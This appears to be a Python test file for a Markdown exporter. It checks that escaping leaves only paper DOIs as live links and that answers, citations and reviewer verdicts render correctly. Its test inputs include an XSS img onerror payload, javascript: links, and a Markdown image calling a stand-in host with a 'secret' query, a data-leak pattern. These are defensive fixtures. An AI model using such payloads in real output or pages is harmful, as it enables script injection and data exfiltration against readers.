"""Markdown files: readable, and nothing in them alive but the DOIs of the papers."""

import io
import re
from dataclasses import replace

import pytest

from lib.exporting.export_rows import Export
from lib.exporting.markdown_export import write_markdown
from lib.records import Paper
from lib.text.markdown import escape_for_file
from tests.exporting.export_samples import OTTERS, export, row, verdict
from tests.surveys.answers import answer


def text_of(made: Export) -> str:
    out = io.BytesIO()
    write_markdown(made, out)
    return out.getvalue().decode()


NASTY = [
    "<img src=x onerror=alert(1)>",
    "![x](http://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "<http://evil.example>",
    "[ref]: http://evil.example",
    "&lt;script&gt;",
    "`code` ~~x~~ **b** __i__ $x^2$ ~sub~ ==mark==",
    "# heading",
    "- item",
    "1. item",
    "> quote",
    "| a | b |",
    "=====",
    "[^1]: note",
    "$$\\href{http://evil.example}{x}$$",
]


@pytest.mark.parametrize("text", NASTY)
def test_every_mark_is_escaped(text: str) -> None:
    escaped = escape_for_file(text)
    assert not re.search(r"(?<!\\)(?:\\\\)*[`*_\[\]<>#|~$&!]", escaped.replace("\\\\", ""))
    assert not re.match(r"[-+=:]|\d+[.)]", escaped)


@pytest.mark.parametrize(
    "text", ["see http://evil.example", "at www.evil.example", "mail a@evil.example", "a :smile:", "HTTPS://x.y"]
)
def test_bare_addresses_and_icons_are_parted_by_a_character_that_is_not_seen(text: str) -> None:
    escaped = escape_for_file(text)
    assert "\u2060" in escaped
    assert escaped.replace("\u2060", "") == text
    assert not re.search(r"https?://|www\.|@\w|:smile:", escaped, re.IGNORECASE)


def test_the_only_links_are_the_dois_of_the_papers() -> None:
    odd = replace(OTTERS, title="[x](http://evil.example)", doi="10.1234/a)b<c>")
    worse = Paper("c" * 64, "w.pdf", "W", doi="10.1/../](javascript:x) y")
    evil = answer("![x](http://evil.example) and http://evil.example", general="<b>x</b>")
    text = text_of(export(row(evil, papers=[odd]), papers=[odd, worse], title="<script>"))
    assert re.findall(r"(?<!\\)\]\(([^)]*)\)", text) == ["https://doi.org/10.1234/a%29b%3Cc%3E"]
    assert "<" not in text.replace("\\<", "")


def test_an_answer_is_told_with_evidence_support_and_verdicts() -> None:
    made = answer("We saw 57 otters.", "They slept.", support="weak", paper_id=OTTERS.id, general="Otters swim.")
    said = [
        verdict(made.id, correct="partly", correction="58"),
        verdict(made.id, citation=1, supported="yes", right_passage=True),
    ]
    text = text_of(export(row(made, said)))
    assert "### count: How many otters?" in text
    assert "We saw 57 otters. \\[1\\] *(only partly in the passages)*" in text
    assert "- \\[1\\] “We saw 57 otters.” (Otters in the reeds, page 1)" in text
    assert "- Ada: partly correct; correction: 58" in text
    assert "    - Ada: right passage; supported: yes" in text
    assert "**General knowledge, not from the papers:** Otters swim." in text
    assert "[doi:10.1234/otters](https://doi.org/10.1234/otters)" in text


def test_a_cell_without_an_answer_says_why() -> None:
    text = text_of(export(row(answer=None, evidence=[], category="failed", problem="The key was refused.")))
    assert "**Problem:** The key was refused." in text
